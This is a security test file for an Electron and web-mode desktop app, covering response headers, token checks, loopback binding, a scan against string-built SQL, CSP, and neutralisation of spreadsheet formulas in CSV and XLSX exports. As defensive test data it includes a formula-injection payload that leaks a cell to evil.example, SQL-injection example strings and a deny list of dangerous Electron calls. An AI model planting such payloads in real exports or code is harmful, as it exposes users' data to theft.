/**
 * The security review of issue 10: what tests/unit/security.test.ts (webPreferences, CSP
 * constant, sender and navigation rules), tests/integration/electron-main.test.ts (the entry: window,
 * navigation, popups, permissions, rpc sender check, no shell.openExternal at run time),
 * tests/unit/ipc.test.ts and tests/integration/web-server.test.ts (token, Host, Origin, sizes)
 * did not cover yet:
 *
 * - web mode: `no-store` on every answer, refusals and static files included; the token only
 *   in its header; `npm run web` itself listening on loopback unless told otherwise;
 * - SQL: no string-built SQL anywhere in main/ and db/ (a syntax-tree scan, stricter than the
 *   eslint rule, and the eslint rule itself run on both folders);
 * - exports: a participant named like a formula leaves every CSV path (reports.export and the
 *   import's rejected-rows file) neutralised, through the API;
 * - Electron: the CSP meta tag in the built index.html (the vite plugin), and no source file that
 *   could hand a URL to the system or run strings as code.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { connect } from 'node:net';
import { networkInterfaces } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import ExcelJS from 'exceljs';
import ts from 'typescript';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { createAppRegistry } from '../../main/api';
import { AppContext } from '../../main/context';
import { CONTENT_SECURITY_POLICY } from '../../main/security';
import { startWebServer, type RunningWebServer } from '../../main/web/server';
import { WEB_TOKEN_HEADER } from '../../preload/contract';
import { makeApp } from '../helpers/app';
import { useTempDir } from '../helpers/tmp';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const tempDir = useTempDir();

function sourceFiles(folder: string, extensions = ['.ts', '.tsx']): string[] {
  const out: string[] = [];
  const walk = (dir: string) => {
    for (const name of readdirSync(dir)) {
      const path = join(dir, name);
      if (statSync(path).isDirectory()) walk(path);
      else if (extensions.some((e) => name.endsWith(e))) out.push(path);
    }
  };
  walk(join(ROOT, folder));
  return out;
}

// ---------------------------------------------------------------------------------------------
// Web mode.

interface Reply {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

function send(origin: string, options: { method?: string; path?: string; headers?: Record<string, string>; body?: string }): Promise<Reply> {
  const url = new URL(origin);
  return new Promise((resolve, reject) => {
    const req = request(
      { host: url.hostname, port: url.port, method: options.method ?? 'GET', path: options.path ?? '/', headers: options.headers, setHost: !options.headers?.Host },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
      },
    );
    req.on('error', reject);
    if (options.body !== undefined) req.write(options.body);
    req.end();
  });
}

describe('web mode', () => {
  let running: RunningWebServer | null = null;
  afterEach(async () => {
    await running?.close();
    running = null;
  });

  async function start(): Promise<RunningWebServer> {
    const dir = tempDir();
    const staticDir = join(dir, 'renderer');
    mkdirSync(join(staticDir, 'assets'), { recursive: true });
    writeFileSync(join(staticDir, 'index.html'), '<!doctype html><title>Assembly Desk</title>');
    writeFileSync(join(staticDir, 'assets', 'app.js'), 'console.log(1)');
    running = await startWebServer({ registry: createAppRegistry(() => {}), ctx: new AppContext('web', join(dir, 'data')), staticDir, maxBodyBytes: 1000 });
    return running;
  }

  it('marks every answer no-store: API answers, every refusal and the static files', async () => {
    const server = await start();
    const port = new URL(server.origin).port;
    const json = { 'Content-Type': 'application/json', [WEB_TOKEN_HEADER]: server.token };
    const replies: [string, Reply][] = [
      ['rpc ok', await send(server.origin, { method: 'POST', path: '/rpc', headers: json, body: '{"method":"app.status"}' })],
      ['rpc refused by the registry', await send(server.origin, { method: 'POST', path: '/rpc', headers: json, body: '{"method":"app.setLanguage","args":{"language":"xx"}}' })],
      ['no token', await send(server.origin, { method: 'POST', path: '/rpc', headers: { 'Content-Type': 'application/json' }, body: '{}' })],
      ['wrong Host', await send(server.origin, { path: '/', headers: { Host: `evil.example:${port}` } })],
      ['wrong Origin', await send(server.origin, { method: 'POST', path: '/rpc', headers: { ...json, Origin: 'http://evil.example' }, body: '{}' })],
      ['GET /rpc', await send(server.origin, { path: '/rpc' })],
      ['not JSON', await send(server.origin, { method: 'POST', path: '/rpc', headers: { ...json, 'Content-Type': 'text/plain' }, body: '{}' })],
      ['too large', await send(server.origin, { method: 'POST', path: '/rpc', headers: json, body: JSON.stringify({ method: 'app.status', args: { x: 'y'.repeat(2000) } }) })],
      ['unknown method', await send(server.origin, { method: 'POST', path: '/rpc', headers: json, body: '{"method":"people.dump"}' })],
      ['index.html', await send(server.origin, { path: '/' })],
      ['asset', await send(server.origin, { path: '/assets/app.js' })],
      ['missing file', await send(server.origin, { path: '/nothing.js' })],
    ];
    for (const [label, reply] of replies) {
      expect(reply.headers['cache-control'], label).toBe('no-store');
      expect(reply.headers['x-content-type-options'], label).toBe('nosniff');
    }
    expect(replies.map(([label, r]) => `${label} ${r.status}`)).toEqual([
      'rpc ok 200',
      'rpc refused by the registry 200',
      'no token 401',
      'wrong Host 421',
      'wrong Origin 403',
      'GET /rpc 405',
      'not JSON 415',
      'too large 413',
      'unknown method 404',
      'index.html 200',
      'asset 200',
      'missing file 404',
    ]);
  });

  it('takes the token from its header only: not from the address, a cookie or another header', async () => {
    const server = await start();
    const body = '{"method":"app.status"}';
    const json = { 'Content-Type': 'application/json' };
    for (const [label, path, headers] of [
      ['query', `/rpc?token=${server.token}`, json],
      ['cookie', '/rpc', { ...json, Cookie: `token=${server.token}` }],
      ['authorization', '/rpc', { ...json, Authorization: `Bearer ${server.token}` }],
      ['empty header', '/rpc', { ...json, [WEB_TOKEN_HEADER]: '' }],
      ['longer token', '/rpc', { ...json, [WEB_TOKEN_HEADER]: `${server.token}x` }],
    ] as const) {
      const reply = await send(server.origin, { method: 'POST', path, headers, body });
      expect(reply.status, label).toBe(401);
      expect(reply.body, label).not.toContain('"ok":true');
    }
    // A preflight (another site's script asking to send the header) gets nothing useful.
    const preflight = await send(server.origin, { method: 'OPTIONS', path: '/rpc', headers: { Origin: 'http://evil.example', 'Access-Control-Request-Headers': WEB_TOKEN_HEADER } });
    expect(preflight.status).toBe(403);
    expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
  });

  describe('npm run web', () => {
    let child: ChildProcess | null = null;
    afterAll(() => {
      if (child?.pid && child.exitCode === null) child.kill('SIGTERM');
    });

    it('listens on loopback by default, never on the network addresses, and prints a tokened address', async () => {
      const dir = tempDir();
      mkdirSync(join(dir, 'ui'));
      writeFileSync(join(dir, 'ui', 'index.html'), '<!doctype html><title>t</title>');
      child = spawn(process.execPath, [join(ROOT, 'node_modules', 'tsx', 'dist', 'cli.mjs'), join(ROOT, 'main', 'web', 'start.ts'), '--no-build', '--static-dir', join(dir, 'ui'), '--data-dir', join(dir, 'data')], {
        cwd: ROOT,
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let out = '';
      child.stderr!.on('data', (c: Buffer) => (out += c.toString()));
      const url = await new Promise<string>((resolve, reject) => {
        const timer = setTimeout(() => reject(new Error(`npm run web did not start: ${out}`)), 20_000);
        child!.stdout!.on('data', (c: Buffer) => {
          out += c.toString();
          const m = /ready: (http:\/\/\S+)/.exec(out);
          if (m) {
            clearTimeout(timer);
            resolve(m[1]!);
          }
        });
      });
      expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/\?token=[\w-]{32}$/);
      expect(out).not.toContain('WARNING');
      const { port } = new URL(url);
      expect((await send(new URL(url).origin, { path: '/' })).status).toBe(200);
      const lan = Object.values(networkInterfaces())
        .flat()
        .filter((i) => i && !i.internal)
        .map((i) => i!.address);
      for (const address of lan) {
        const reached = await new Promise<boolean>((resolve) => {
          const socket = connect({ host: address, port: Number(port) });
          socket.once('connect', () => {
            socket.destroy();
            resolve(true);
          });
          socket.once('error', () => resolve(false));
        });
        expect(reached, `reachable on ${address}`).toBe(false);
      }
      child.kill('SIGTERM');
    }, 30_000);
  });
});

// ---------------------------------------------------------------------------------------------
// SQL.

/**
 * Every argument given to prepare(), exec() or pragma() in the given source must be SQL fixed in
 * the code: a string literal, a template without substitutions, a `+` of such, or a const (or a
 * const object's property) holding one. Returns the places where it is not, as "file:line: text".
 */
function stringBuiltSql(fileName: string, source: string): string[] {
  const file = ts.createSourceFile(fileName, source, ts.ScriptTarget.Latest, true);
  const consts = new Map<string, ts.Expression[]>();
  const collect = (node: ts.Node): void => {
    if (ts.isVariableDeclarationList(node) && node.flags & ts.NodeFlags.Const) {
      for (const d of node.declarations) {
        if (ts.isIdentifier(d.name) && d.initializer) consts.set(d.name.text, [...(consts.get(d.name.text) ?? []), d.initializer]);
      }
    }
    ts.forEachChild(node, collect);
  };
  collect(file);
  // A constant imported from another module of ours (e.g. db/participants.ts's condition for a
  // confirmed participant) counts as fixed when that module defines it as fixed SQL.
  const imported = new Map<string, { from: string; name: string }>();
  for (const statement of file.statements) {
    if (!ts.isImportDeclaration(statement) || !ts.isStringLiteral(statement.moduleSpecifier) || !statement.moduleSpecifier.text.startsWith('.')) continue;
    const bindings = statement.importClause?.namedBindings;
    if (!bindings || !ts.isNamedImports(bindings)) continue;
    for (const el of bindings.elements) imported.set(el.name.text, { from: statement.moduleSpecifier.text, name: (el.propertyName ?? el.name).text });
  }
  const importedIsStatic = (local: string): boolean => {
    const ref = imported.get(local);
    if (!ref || !fileName.includes('/')) return false;
    const target = join(ROOT, dirname(fileName), `${ref.from}.ts`);
    if (!existsSync(target)) return false;
    const other = readFileSync(target, 'utf8');
    // Fixed if the other module has no string-built SQL of its own and exports the name as a
    // constant made only of literals (checked by the same scan on a one-line probe).
    const probe = `${other}\ndb.prepare(${ref.name});`;
    return stringBuiltSql(relative(ROOT, target).split('\\').join('/'), probe).length === 0;
  };
  const unwrap = (e: ts.Expression): ts.Expression =>
    ts.isParenthesizedExpression(e) || ts.isAsExpression(e) || ts.isSatisfiesExpression(e) ? unwrap(e.expression) : e;
  const isStatic = (e: ts.Expression, seen = new Set<string>()): boolean => {
    e = unwrap(e);
    if (ts.isStringLiteral(e) || ts.isNoSubstitutionTemplateLiteral(e)) return true;
    if (ts.isBinaryExpression(e) && e.operatorToken.kind === ts.SyntaxKind.PlusToken) return isStatic(e.left, seen) && isStatic(e.right, seen);
    if (ts.isIdentifier(e)) {
      const inits = consts.get(e.text);
      if (!inits && !seen.has(e.text) && imported.has(e.text)) {
        seen.add(e.text);
        return importedIsStatic(e.text);
      }
      if (!inits || seen.has(e.text)) return false;
      seen.add(e.text);
      return inits.every((i) => isStatic(i, seen));
    }
    // UPDATES[name], where UPDATES is a const object of fixed SQL.
    if (ts.isElementAccessExpression(e) && ts.isIdentifier(e.expression)) {
      const inits = consts.get(e.expression.text) ?? [];
      return (
        inits.length > 0 &&
        inits.every((i) => {
          const o = unwrap(i);
          return ts.isObjectLiteralExpression(o) && o.properties.every((p) => ts.isPropertyAssignment(p) && isStatic(p.initializer, seen));
        })
      );
    }
    return false;
  };
  const isRegex = (e: ts.Expression): boolean => {
    e = unwrap(e);
    if (ts.isRegularExpressionLiteral(e)) return true;
    if (ts.isNewExpression(e) && ts.isIdentifier(e.expression) && e.expression.text === 'RegExp') return true;
    return ts.isIdentifier(e) && (consts.get(e.text) ?? []).some((i) => isRegex(i));
  };
  const found: string[] = [];
  const visit = (node: ts.Node): void => {
    if (ts.isCallExpression(node) && ts.isPropertyAccessExpression(node.expression) && node.arguments[0]) {
      const name = node.expression.name.text;
      const receiver = node.expression.expression;
      if ((name === 'prepare' || name === 'exec' || name === 'pragma') && !isRegex(receiver) && !isStatic(node.arguments[0])) {
        const line = file.getLineAndCharacterOfPosition(node.getStart()).line + 1;
        found.push(`${fileName}:${line}: ${node.getText().replace(/\s+/g, ' ').slice(0, 120)}`);
      }
    }
    ts.forEachChild(node, visit);
  };
  visit(file);
  return found;
}

/**
 * The places that cannot take parameters, each checked by hand: migrations run the SQL files
 * shipped in db/migrations/, and PRAGMA takes no parameters (the values are integers from code).
 */
const REVIEWED = new Set([
  'db/connection.ts: db.exec(migration.sql)',
  'db/connection.ts: db.pragma(`user_version = ${migration.version}`)',
  'db/connection.ts: db.pragma(`application_id = ${APPLICATION_ID}`)',
]);

describe('SQL is never built from strings', () => {
  it('the scan finds string-built SQL (checked on examples)', () => {
    const bad = [
      'db.prepare(`SELECT * FROM people WHERE name = ${name}`).all();',
      "db.prepare('SELECT * FROM people WHERE id = ' + id).get();",
      'const q = `DELETE FROM people WHERE id = ${id}`; db.exec(q);',
      'db.prepare(buildQuery(filter)).all();',
      'let sql = "SELECT 1"; sql += where; db.prepare(sql).all();',
    ];
    for (const source of bad) expect(stringBuiltSql('x.ts', source), source).toHaveLength(1);
    const good = [
      "db.prepare('SELECT * FROM people WHERE id = ?').get(id);",
      'const SELECT = `SELECT id FROM people`; db.prepare(SELECT + " WHERE id = ?").get(id);',
      "const U = { a: 'UPDATE people SET a = ? WHERE id = ?' }; const sql = U[name]; db.prepare(sql).run(v, id);",
      'const DATE = /^(\\d{4})$/; DATE.exec(value);',
    ];
    for (const source of good) expect(stringBuiltSql('x.ts', source), source).toEqual([]);
  });

  it('main/ and db/ hand prepare, exec and pragma only SQL fixed in the code', () => {
    const found = [...sourceFiles('main'), ...sourceFiles('db')].flatMap((path) =>
      stringBuiltSql(relative(ROOT, path).split('\\').join('/'), readFileSync(path, 'utf8')),
    );
    const unexpected = found.filter((f) => !REVIEWED.has(f.replace(/:\d+:/, ':')));
    expect(unexpected).toEqual([]);
    // The reviewed exceptions still exist as written (else this list is stale).
    expect(found.map((f) => f.replace(/:\d+:/, ':')).sort()).toEqual([...REVIEWED].sort());
  });

  it("the project's eslint rule against interpolated SQL passes on main/ and db/", async () => {
    const { ESLint } = await import('eslint');
    const tseslint = (await import('typescript-eslint')).default;
    // The project's own config, loaded by address (a plain .js file the type checker does not see).
    const config = (await import(/* @vite-ignore */ pathToFileURL(join(ROOT, 'eslint.config.js')).href)).default as { rules?: Record<string, unknown> }[];
    const rule = config.find((c) => c.rules?.['no-restricted-syntax'] && c.rules['no-restricted-syntax'] !== 'off')!.rules!['no-restricted-syntax'];
    expect(JSON.stringify(rule)).toContain('TemplateLiteral');
    const eslint = new ESLint({
      cwd: ROOT,
      overrideConfigFile: true,
      overrideConfig: [{ files: ['**/*.ts'], languageOptions: { parser: tseslint.parser }, rules: { 'no-restricted-syntax': rule as 'error' } }],
    });
    const results = await eslint.lintFiles(['main/**/*.ts', 'db/**/*.ts']);
    expect(results.length).toBeGreaterThan(50);
    const messages = results.flatMap((r) => r.messages.map((m) => `${relative(ROOT, r.filePath)}:${m.line} ${m.message}`));
    expect(messages).toEqual([]);
  }, 30_000);
});

// ---------------------------------------------------------------------------------------------
// Exports.

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

/**
 * A field a spreadsheet would run as a formula: starting with =, @, tab or CR, or with + or -
 * followed by more than a plain number (a phone number "+32 3 521 69 78" stays as it is).
 */
const formulaLike = (field: string): boolean => /^[=@\t\r]/.test(field) || (/^[+-]/.test(field) && !/^[+-]\d[\d .,]*$/.test(field));

/** Fields of a CSV line (RFC 4180), enough for these checks. */
function csvFields(text: string): string[] {
  const fields: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,;\r\n]*)([,;]|\r?\n|$)/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(text)) && m[0] !== '') {
    const raw = m[1]!;
    fields.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
  }
  return fields;
}

describe('exports neutralise formulas, through the API', () => {
  it('a participant named like a formula: reports.export (csv and xlsx) writes it as text', async () => {
    const app = makeApp(tempDir());
    await app.call('app.openDemo', { stage: 'venue' });
    const confirmed = await app.call('people.list', { status: 'confirmed', limit: 1 });
    const person = confirmed.rows[0]!;
    await app.call('people.update', { id: person.id, firstName: FORMULA, lastName: '@SUM(1+1)' });

    const csv = await app.call('reports.export', { report: 'participants', format: 'csv', level: 'full' });
    const text = Buffer.from(csv.contentBase64, 'base64').toString('utf8').replace(/^\uFEFF/, '');
    expect(text).toContain(`'${FORMULA.replace(/"/g, '""')}`);
    expect(text).toContain("'@SUM(1+1)");
    expect(csvFields(text).filter(formulaLike)).toEqual([]);

    const xlsx = await app.call('reports.export', { report: 'workbook', format: 'xlsx', level: 'full' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(xlsx.contentBase64, 'base64') as unknown as ArrayBuffer);
    let seen = 0;
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula, `${sheet.name}!${cell.address}`).toBeUndefined();
          if (typeof cell.value === 'string' && cell.value.includes('HYPERLINK')) {
            seen++;
            expect(cell.value).toBe(`'${FORMULA}`);
          }
          if (typeof cell.value === 'string') expect(formulaLike(cell.value), `${sheet.name}!${cell.address}: ${cell.value}`).toBe(false);
        }),
      ),
    );
    expect(seen).toBeGreaterThan(0);
    app.close();
  }, 60_000);

  it("the import's rejected-rows file neutralises a formula in a rejected row", async () => {
    const app = makeApp(tempDir());
    await app.call('app.createAssembly', { name: 'Formulas' });
    const file = `Voornaam;Naam;Geboortejaar\nAn;Peeters;1980\n${FORMULA};=1+1;19x5\n`;
    const staged = await app.call('imports.stage', { fileName: 'pool.csv', contentBase64: Buffer.from(file).toString('base64') });
    const result = await app.call('imports.commit', { uploadId: staged.uploadId, mapping: staged.mapping, mode: 'validOnly' });
    expect(result).toMatchObject({ imported: 1, rejected: 1 });
    const rejected = result.rejectedFile!.content;
    expect(rejected).toContain("'=1+1");
    expect(csvFields(rejected.replace(/^\uFEFF/, '')).filter(formulaLike)).toEqual([]);
    app.close();
  });
});

// ---------------------------------------------------------------------------------------------
// Electron: the built page and the sources.

describe('Electron and the renderer', () => {
  it('the build writes the CSP into index.html as a meta tag (without frame-ancestors), and no inline script', async () => {
    const config = (await import('../../vite.config')).default as { plugins: unknown[] };
    const plugin = config.plugins.flat().find((p) => (p as { name?: string })?.name === 'assembly-desk:csp-meta') as {
      transformIndexHtml: (html: string, context: { server?: unknown }) => string;
    };
    const source = readFileSync(join(ROOT, 'renderer', 'index.html'), 'utf8');
    const built = plugin.transformIndexHtml(source, {});
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)" \/>/.exec(built);
    expect(meta, 'CSP meta tag in the built page').not.toBeNull();
    expect(meta![1]).toContain("script-src 'self'");
    expect(meta![1]).toContain("object-src 'none'");
    expect(meta![1]).not.toContain('frame-ancestors');
    expect(meta![1]).not.toMatch(/unsafe-inline|unsafe-eval/);
    expect(CONTENT_SECURITY_POLICY.split('; ').filter((d) => !d.startsWith('frame-ancestors'))).toEqual(meta![1]!.split('; '));
    // Only module scripts by address: an inline script would be refused by the CSP anyway.
    const scripts = [...built.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attributes, body] of scripts) {
      expect(attributes).toMatch(/\bsrc=/);
      expect(body!.trim()).toBe('');
    }
    // The dev server alone goes without (React Refresh needs an inline preamble).
    expect(plugin.transformIndexHtml(source, { server: {} })).not.toContain('Content-Security-Policy');
  });

  it('no source hands a URL or a path to the system, or runs a string as code', () => {
    const files = [...sourceFiles('main'), ...sourceFiles('preload'), ...sourceFiles('renderer')];
    expect(files.length).toBeGreaterThan(50);
    const forbidden: [RegExp, string][] = [
      [/\bshell\s*\.\s*(openExternal|openPath|showItemInFolder)\s*\(/, 'shell.* with a URL or path'],
      [/\bopenExternal\b/, 'openExternal'],
      [/\bdangerouslySetInnerHTML\b/, 'raw HTML in React'],
      [/\.innerHTML\s*=/, 'innerHTML assignment'],
      [/\beval\s*\(/, 'eval'],
      [/\bnew\s+Function\s*\(/, 'new Function'],
      [/\bnodeIntegration\s*:\s*true/, 'nodeIntegration: true'],
      [/\bwebSecurity\s*:\s*false/, 'webSecurity: false'],
      [/\ballowRunningInsecureContent\s*:\s*true/, 'allowRunningInsecureContent'],
      [/exposeInMainWorld\([^)]*\bipcRenderer\b\s*[,)]/, 'ipcRenderer exposed to the page'],
    ];
    const hits: string[] = [];
    for (const path of files) {
      // Comments may name what is not done ("no shell.openExternal"): only code counts.
      const code = readFileSync(path, 'utf8').replace(/\/\*[\s\S]*?\*\//g, '').replace(/(^|[^:'"`])\/\/.*$/gm, '$1');
      for (const [pattern, what] of forbidden) if (pattern.test(code)) hits.push(`${relative(ROOT, path)}: ${what}`);
    }
    expect(hits).toEqual([]);
  });

  it('every BrowserWindow gets its webPreferences from secureWebPreferences', () => {
    const windows = sourceFiles('main').flatMap((path) => {
      const code = readFileSync(path, 'utf8');
      return [...code.matchAll(/new BrowserWindow\(\{([\s\S]*?)\n\s{2}\}\);/g)].map((m) => ({ path: relative(ROOT, path), options: m[1]! }));
    });
    expect(windows.length).toBeGreaterThan(0);
    // A station window (this laptop joined another host) takes stationWebPreferences: the same
    // settings minus the preload, in a session of its own (tests/unit/station-pin.test.ts).
    for (const w of windows) expect(w.options, w.path).toMatch(/webPreferences:\s*(secureWebPreferences|stationWebPreferences)\(/);
  });
});
